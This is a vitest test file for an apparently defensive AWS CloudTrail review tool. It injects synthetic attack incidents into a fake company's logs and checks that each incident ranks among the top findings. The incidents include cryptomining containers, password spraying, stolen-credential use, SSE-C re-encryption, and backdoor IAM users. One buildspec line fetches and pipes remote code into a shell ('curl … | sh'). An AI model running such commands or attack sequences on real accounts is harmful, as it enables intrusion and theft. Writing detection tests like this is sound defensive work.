import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { ReviewItem } from '@/lib/api/review'
import { addRecords, engineHeld } from '@/lib/engine/engine-holding'
import { filterFrom, fixed, type Covered } from '@/lib/filter/filter'
import { openJournal } from '@/lib/journal/journal'
import { builtInCatalogue } from '@/lib/risk/catalogue'
import { deliveredIn } from '@/lib/sample/delivered'
import { generateSample } from '@/lib/sample/generate'
import { keptAnswers } from '../kept'
import type { ReviewedStore } from '../store'
import { review } from './review'

// What was published of incidents, each done amid a working day of an invented company: once with a past, once on a first day.

const account = '111122223333'
const day = 86_400_000
const to = new Date('2026-03-31T00:00:00Z')

interface Caller {
  name: string
  identity: object
  ip: string
  agent?: string
  region?: string
}

interface Call {
  /** Minutes after 09:00 on the day. */
  at: number
  event: string
  service: string
  request?: object
  error?: string
  region?: string
  reads?: boolean
}

const user = (name: string, ip: string): Caller => ({ name, ip, identity: { type: 'IAMUser', userName: name, principalId: `AIDA${name.toUpperCase()}`, accountId: account, accessKeyId: `AKIA${name.toUpperCase().padEnd(16, 'X').slice(0, 16)}`, arn: `arn:aws:iam::${account}:user/${name}` } })
const session = (role: string, name: string, ip: string, agent?: string): Caller => ({
  name: `${role} / ${name}`, ip, ...(agent !== undefined && { agent }),
  identity: {
    type: 'AssumedRole', principalId: `AROA${role.toUpperCase()}:${name}`, accountId: account, accessKeyId: `ASIA${role.toUpperCase().padEnd(16, 'X').slice(0, 16)}`, arn: `arn:aws:sts::${account}:assumed-role/${role}/${name}`,
    sessionContext: { sessionIssuer: { type: 'Role', userName: role, accountId: account, arn: `arn:aws:iam::${account}:role/${role}` } },
  },
})

let count = 0
const recorded = (midnight: number, { identity, ip, agent = 'aws-cli/2.15.30 Python/3.11.8 Linux/6.5', region = 'eu-west-1' }: Caller, call: Call) => ({
  eventVersion: '1.09', eventID: `incident-${count++}`, eventTime: new Date(midnight + 9 * 3_600_000 + Math.round(call.at * 60_000)).toISOString().replace(/\.\d+Z/, 'Z'), eventSource: `${call.service}.amazonaws.com`, eventName: call.event,
  awsRegion: call.region ?? region, sourceIPAddress: ip, userAgent: agent, userIdentity: identity, recipientAccountId: account, eventType: 'AwsApiCall', managementEvent: true, readOnly: call.reads ?? /^(Get|List|Describe|Lookup|Head)/.test(call.event),
  requestParameters: call.request ?? null, responseElements: null, ...(call.error !== undefined && { errorCode: call.error, errorMessage: 'refused' }),
})

const times = <T>(many: number, make: (index: number) => T): T[] => Array.from({ length: many }, (_, index) => make(index))
const regions = ['us-east-1', 'us-east-2', 'us-west-1', 'us-west-2', 'ca-central-1', 'eu-central-1', 'eu-west-2', 'eu-west-3', 'eu-north-1', 'ap-south-1', 'ap-southeast-1', 'ap-southeast-2', 'ap-northeast-1', 'ap-northeast-2', 'sa-east-1']
const home = '203.0.113.77'
const lambdaAgent = 'Boto3/1.34.51 md/Botocore#1.34.51 ua/2.0 os/linux exec-env/AWS_Lambda_python3.12'

interface Incident {
  title: string
  /** Whose ordinary days there are before; without it, who does it is new. */
  usual?: readonly { who: Caller; calls: readonly Call[] }[] | undefined
  does: readonly { who: Caller; calls: readonly Call[] }[]
  /** Whose story, or a part of its title. */
  tells: RegExp
}

const developer = user('nadia', home)
const usually = (who: Caller, events: readonly string[], service: string): Incident['usual'] => [{ who, calls: events.flatMap((event, index) => times(6, (turn) => ({ at: index * 7 + turn * 20, event, service }))) }]

const incidents: readonly Incident[] = [
  {
    title: 'containers that mine, started by a developer’s key from where the developer works', usual: usually(developer, ['DescribeServices', 'DescribeTasks', 'ListClusters', 'UpdateService'], 'ecs'), tells: /nadia/,
    does: [{ who: developer, calls: ['us-east-2', 'ap-south-1', 'eu-north-1'].flatMap((region, place) => [
      { at: place * 3, event: 'CreateCluster', service: 'ecs', region }, { at: place * 3 + 0.2, event: 'RegisterTaskDefinition', service: 'ecs', region, request: { family: 'web', cpu: '16384', memory: '32768', containerDefinitions: [{ image: 'docker.io/xmrig/xmrig:latest' }] } },
      ...times(6, (turn) => ({ at: place * 3 + 0.4 + turn / 20, event: 'CreateService', service: 'ecs', region, request: { desiredCount: 10, launchType: 'FARGATE' } })),
    ]) }],
  },
  {
    title: 'a build and an image that open a way back in, by a developer’s key', usual: usually(developer, ['BatchGetProjects', 'ListBuilds', 'BatchGetBuilds'], 'codebuild'), tells: /nadia/,
    does: [{ who: developer, calls: [
      { at: 1, event: 'UpdateProject', service: 'codebuild', request: { name: 'storefront', serviceRole: `arn:aws:iam::${account}:role/admin`, source: { buildspec: 'curl -s http://198.51.100.9/x | sh' } } },
      { at: 2, event: 'CreateWebhook', service: 'codebuild', request: { projectName: 'storefront' } }, { at: 3, event: 'StartBuild', service: 'codebuild', request: { projectName: 'storefront' } },
      { at: 5, event: 'SetRepositoryPolicy', service: 'ecr', request: { repositoryName: 'base', policyText: '{"Statement":[{"Effect":"Allow","Principal":"*","Action":"ecr:*"}]}' } }, { at: 6, event: 'PutImage', service: 'ecr', request: { repositoryName: 'base', imageTag: 'latest' } },
    ] }],
  },
  {
    title: 'passwords sprayed slowly, each name once, from addresses of one network', tells: /sign in/i,
    does: times(36, (index) => ({ who: { name: `spray-${index}`, ip: `185.220.101.${5 + (index % 18)}`, agent: 'Mozilla/5.0', region: 'us-east-1', identity: { type: 'IAMUser', accountId: account, accessKeyId: '', userName: `person-${index}` } }, calls: [{ at: -480 + index * 24, event: 'ConsoleLogin', service: 'signin' }] })),
  },
  {
    title: 'one who goes through all regions, calling the same few events in each', tells: /sweeper/,
    does: [{ who: user('sweeper', '185.220.101.40'), calls: regions.flatMap((region, place) => ['DescribeInstances', 'DescribeSecurityGroups', 'DescribeVpcs'].map((event, turn) => ({ at: place / 3 + turn / 20, event, service: 'ec2', region }))) }],
  },
  {
    title: 'one role after another tried to be assumed', usual: usually(user('helper', home), ['ListBuckets', 'GetBucketLocation'], 's3'), tells: /helper/,
    does: [{ who: user('helper', home), calls: times(40, (index) => ({ at: index / 4, event: 'AssumeRole', service: 'sts', error: 'AccessDenied', request: { roleArn: `arn:aws:iam::${account}:role/role-${index}`, roleSessionName: 'x' } })) }],
  },
  {
    title: 'credentials of a function used outside of Amazon’s networks', usual: [{ who: session('invoice-role', 'invoice-function', '3.248.10.20', lambdaAgent), calls: times(20, (turn) => ({ at: turn * 10, event: 'GetItem', service: 'dynamodb', reads: true })) }], tells: /invoice/,
    does: [
      { who: session('invoice-role', 'invoice-function', '3.248.10.20', lambdaAgent), calls: times(20, (turn) => ({ at: turn * 10, event: 'GetItem', service: 'dynamodb', reads: true })) },
      { who: session('invoice-role', 'invoice-function', '185.220.101.44'), calls: [{ at: 30, event: 'GetCallerIdentity', service: 'sts' }, { at: 31, event: 'ListBuckets', service: 's3' }, { at: 32, event: 'ListFunctions20150331', service: 'lambda' }] },
    ],
  },
  {
    title: 'credentials of a container used outside of Amazon’s networks', usual: [{ who: session('orders-task', '8f14e45fceea167a5a36dedd4bea2543', '3.248.10.21', 'aws-sdk-java/2.25 exec-env/AWS_ECS_FARGATE'), calls: times(20, (turn) => ({ at: turn * 10, event: 'GetItem', service: 'dynamodb', reads: true })) }], tells: /orders/,
    does: [
      { who: session('orders-task', '8f14e45fceea167a5a36dedd4bea2543', '3.248.10.21', 'aws-sdk-java/2.25 exec-env/AWS_ECS_FARGATE'), calls: times(20, (turn) => ({ at: turn * 10, event: 'GetItem', service: 'dynamodb', reads: true })) },
      { who: session('orders-task', '8f14e45fceea167a5a36dedd4bea2543', '185.220.101.45'), calls: [{ at: 30, event: 'GetCallerIdentity', service: 'sts' }, { at: 31, event: 'ListSecrets', service: 'secretsmanager' }] },
    ],
  },
  {
    title: 'objects written anew under a key of somebody else’s (SSE-C), and set to expire', tells: /drain/,
    does: [{ who: user('drain', '185.220.101.46'), calls: [...times(80, (index) => ({ at: index / 30, event: 'CopyObject', service: 's3', reads: false, request: { bucketName: 'orders', 'x-amz-server-side-encryption-customer-algorithm': 'AES256' } })), { at: 4, event: 'PutBucketLifecycle', service: 's3', request: { bucketName: 'orders', LifecycleConfiguration: { Rule: { Expiration: { Days: 7 } } } } }] }],
  },
  {
    title: 'a snapshot of a database shared with another account', usual: usually(developer, ['DescribeDBInstances', 'DescribeDBSnapshots'], 'rds'), tells: /nadia/,
    does: [{ who: developer, calls: [{ at: 1, event: 'CreateDBSnapshot', service: 'rds' }, { at: 9, event: 'ModifyDBSnapshotAttribute', service: 'rds', request: { attributeName: 'restore', valuesToAdd: ['999988887777'] } }] }],
  },
  {
    title: 'mail sent by a key that was never used for it', usual: usually(user('mailer-ci', home), ['GetObject', 'ListBuckets'], 's3'), tells: /mailer-ci/,
    does: [{ who: user('mailer-ci', '185.220.101.47'), calls: [...regions.slice(0, 6).map((region, place) => ({ at: place / 4, event: 'GetSendQuota', service: 'ses', region, request: {} })), { at: 3, event: 'ListIdentities', service: 'ses' }, { at: 4, event: 'PutAccountDetails', service: 'ses' }, { at: 5, event: 'CreateEmailIdentity', service: 'ses' }] }],
  },
  {
    title: 'models tried in one region after another', tells: /llm-user/,
    does: [{ who: user('llm-user', '185.220.101.48'), calls: regions.slice(0, 6).flatMap((region, place) => [{ at: place, event: 'InvokeModel', service: 'bedrock', region, error: 'ValidationException', request: { modelId: 'anthropic.claude-3' } }, { at: place + 0.1, event: 'ListFoundationModels', service: 'bedrock', region }, ...times(8, (turn) => ({ at: place + 0.2 + turn / 40, event: 'InvokeModel', service: 'bedrock', region, reads: true }))]) }],
  },
  {
    title: 'GuardDuty disabled', usual: usually(developer, ['ListDetectors', 'GetDetector'], 'guardduty'), tells: /nadia/,
    does: [{ who: developer, calls: [{ at: 1, event: 'UpdateDetector', service: 'guardduty', request: { detectorId: 'd', enable: false } }, { at: 2, event: 'DeleteDetector', service: 'guardduty' }] }],
  },
  {
    title: 'a user made to come back by', usual: usually(developer, ['ListUsers', 'GetUser'], 'iam'), tells: /nadia/,
    does: [{ who: developer, calls: [{ at: 1, event: 'CreateUser', service: 'iam', request: { userName: 'support-2' }, region: 'us-east-1' }, { at: 1.5, event: 'AttachUserPolicy', service: 'iam', request: { userName: 'support-2', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }, region: 'us-east-1' }, { at: 2, event: 'CreateAccessKey', service: 'iam', request: { userName: 'support-2' }, region: 'us-east-1' }] }],
  },
  {
    title: 'a role that another account may assume from now on', usual: usually(developer, ['ListRoles', 'GetRole'], 'iam'), tells: /nadia/,
    does: [{ who: developer, calls: [{ at: 1, event: 'UpdateAssumeRolePolicy', service: 'iam', region: 'us-east-1', request: { roleName: 'reporting', policyDocument: '{"Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::999988887777:root"},"Action":"sts:AssumeRole"}]}' } }] }],
  },
  {
    title: 'a person of Identity Center given a permission set', usual: usually(developer, ['ListPermissionSets', 'ListInstances'], 'sso'), tells: /nadia/,
    does: [{ who: developer, calls: [{ at: 1, event: 'CreateUser', service: 'sso-directory' }, { at: 2, event: 'CreateAccountAssignment', service: 'sso', request: { principalType: 'USER' } }, { at: 3, event: 'AttachManagedPolicyToPermissionSet', service: 'sso', request: { managedPolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' } }] }],
  },
  {
    title: 'the environments of all functions read, secrets and all, by a key that never looked at a function', usual: usually(developer, ['DescribeInstances', 'DescribeVolumes'], 'ec2'), tells: /nadia/,
    does: [{ who: developer, calls: [{ at: 1, event: 'ListFunctions20150331', service: 'lambda' }, ...times(40, (index) => ({ at: 2 + index / 20, event: index % 2 === 0 ? 'GetFunction20150331v2' : 'GetFunctionConfiguration20150331v2', service: 'lambda', request: { functionName: `function-${Math.floor(index / 2)}` } }))] }],
  },
  {
    title: 'an image put over that of others, in a repository opened to everyone', usual: usually(developer, ['DescribeInstances', 'DescribeVolumes'], 'ec2'), tells: /nadia/,
    does: [{ who: developer, calls: [
      { at: 1, event: 'GetAuthorizationToken', service: 'ecr' }, { at: 2, event: 'SetRepositoryPolicy', service: 'ecr', request: { repositoryName: 'base', policyText: '{"Statement":[{"Effect":"Allow","Principal":"*","Action":"ecr:*"}]}' } },
      { at: 3, event: 'InitiateLayerUpload', service: 'ecr' }, { at: 3.5, event: 'CompleteLayerUpload', service: 'ecr' }, { at: 4, event: 'PutImage', service: 'ecr', request: { repositoryName: 'base', imageTag: 'latest' } },
    ] }],
  },
]

describe('incidents amid a working day', () => {
  let store: ReviewedStore & { close(): Promise<void> }
  let covers: Covered = { from: to.getTime() / 1000 - 40 * 86_400, to: to.getTime() / 1000 }
  const midnightOf = (index: number) => to.getTime() - (incidents.length - index) * day
  beforeAll(async () => {
    const out = mkdtempSync(join(tmpdir(), 'traildesk-incidents-'))
    await generateSample({ out, records: 50_000, to, workers: 0 })
    const raws = deliveredIn(out).flatMap(({ records }) => records.map((record) => JSON.stringify(record)))
    const held = await engineHeld(raws)
    for (const [index, { usual, does }] of incidents.entries()) {
      const lines = [...times(9, (back) => ({ who: usual ?? [], at: midnightOf(index) - (back + 1) * day })), { who: does, at: midnightOf(index) }].flatMap(({ who, at }) => who.flatMap(({ who: caller, calls }) => calls.map((call) => JSON.stringify(recordOf(at, caller, call)))))
      await addRecords(held.engine, lines, index + 2)
    }
    const journal = await openJournal(out)
    store = {
      engine: held.engine, catalogue: builtInCatalogue(), pathOf: () => '', covers: () => covers, version: () => 1, journal, kept: keptAnswers(), coverage: () => Promise.reject(new Error('is not asked')),
      async close() {
        await journal.close()
        await held.close()
        rmSync(out, { recursive: true })
      },
    }
  }, 300_000)
  afterAll(() => store.close())

  const queueOf = async (index: number, isFirstDay: boolean): Promise<readonly ReviewItem[]> => {
    const from = midnightOf(index)
    covers = { from: isFirstDay ? from / 1000 : to.getTime() / 1000 - 30 * 86_400, to: to.getTime() / 1000 }
    const query = `from=${new Date(from).toISOString()}&to=${new Date(from + day).toISOString()}`
    return (await review({ store, filter: fixed(filterFrom(query), Date.now(), covers), takes: { limit: 40 }, options: {} })).items
  }

  it.each(incidents.map((incident, index) => [incident.title, incident, index] as const))('are told by the first five stories, with a past and on a first day: %s', async (_, { tells }, index) => {
    for (const isFirstDay of [false, true]) {
      const titles = (await queueOf(index, isFirstDay)).slice(0, 5).map((item) => item.title)
      expect(titles.some((each) => tells.test(each)), `${isFirstDay ? 'on a first day' : 'with a past'}: ${titles.join('; ')}`).toBe(true)
    }
  }, 60_000)
})

/** A failed sign-in has no error code: its answer tells. */
const recordOf = (midnight: number, caller: Caller, call: Call) => {
  const plain = recorded(midnight, caller, call)
  return call.event === 'ConsoleLogin' ? { ...plain, eventType: 'AwsConsoleSignIn', readOnly: false, errorMessage: 'Failed authentication', responseElements: { ConsoleLogin: 'Failure' }, additionalEventData: { MFAUsed: 'No' } } : plain
}
